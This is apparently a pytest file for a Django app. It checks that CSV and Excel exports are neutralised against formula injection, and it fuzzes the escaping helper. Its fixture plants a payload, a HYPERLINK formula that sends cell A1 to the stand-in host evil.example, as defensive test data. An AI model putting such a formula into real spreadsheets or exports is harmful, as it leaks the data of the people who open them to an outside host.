"""No file that we hand out runs anything in a spreadsheet, whatever was written into us."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from accounts.models import BusinessUnit
from assessments.models import Assessment
from assessments.services.questionnaires import builtin
from audit.csv_file import DANGEROUS, safe
from tests.abuse.planting import Payload, plant
from tests.access.matrix import lines
from tests.access.world import World, make_world
from tests.factories.assessments import small_questionnaire
from tests.factories.scoring import score
from tests.personas import Person

FORMULA = Payload(long='=HYPERLINK("https://evil.example/?"&A1) is planted', short="=1+planted()")
_NUMBER = re.compile(r"[+-]?\d[\d.,]*(e[+-]?\d+)?%?")
#: Sums of our own: of a table's last row, and counts on the sheet that explains a workbook.
_OURS = re.compile(rb"SUBTOTAL\(|COUNT|SUM\(")


@pytest.fixture
def world(unit: BusinessUnit, db: None, request: pytest.FixtureRequest) -> World:
    """A unit in which every file has something in it, all of it a formula."""
    builtin()
    made = make_world(unit, small_questionnaire(), word="Quillfeather")
    for assessment in Assessment.objects.all():
        score(assessment, "assessment.opened")
    plant(FORMULA, request)
    return made


def _files(world: World, who: Person, column: str) -> Iterator[tuple[str, str, bytes]]:
    """(name, media type, content) of everything that is handed out to read."""
    for line in lines():
        if line.method != "GET" or line.expected[column] != "200" or line.is_api:
            continue
        answer = who.browser.get(reverse(line.name, kwargs=world.named(line)))
        kind = answer.headers["Content-Type"]
        if "csv" in kind or "spreadsheet" in kind:
            yield line.name, kind, answer.getvalue()


def _running_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(DANGEROUS) and not _NUMBER.fullmatch(cell)
    ]


def _formulas(content: bytes) -> list[bytes]:
    """Formulas of a workbook that are none of ours, and links out of it."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        for name in packed.namelist():
            inside = packed.read(name)
            if name.startswith("xl/worksheets/"):
                formulas = re.findall(rb"<f[^>]*>([^<]*)</f>", inside)
                found += [one for one in formulas if not _OURS.search(one)]
                found += [one for one in formulas if b"planted" in one]
            if name.endswith(".rels"):
                found += re.findall(rb'TargetMode="External"[^>]*', inside)
            assert "externalLink" not in name
    return found


def test_no_cell_of_any_file_is_a_formula(world: World, admin: Person, legal: Person) -> None:
    wrong, seen, planted = [], 0, 0
    for who, column in ((admin, "admin"), (legal, "legal")):
        for name, kind, content in _files(world, who, column):
            seen += 1
            if "csv" in kind:
                planted += b"planted" in content
                wrong += [f"{name}: {cell[:60]}" for cell in _running_cells(content)]
            else:
                wrong += [f"{name}: {one[:60]!r}" for one in _formulas(content)]
    assert wrong == []
    assert seen > 50
    assert planted > 20


@given(st.text())
def test_whatever_a_text_is_it_stays_one_and_can_be_had_back(text: str) -> None:
    kept = safe(text)
    assert not kept.startswith(DANGEROUS)
    assert text in (kept, kept.removeprefix("'"))


def test_a_formula_would_be_found() -> None:
    content = b"a,b\r\n=1+1,-3.5\r\n'=1+1,@x\r\n"
    assert _running_cells(content) == ["=1+1", "@x"]
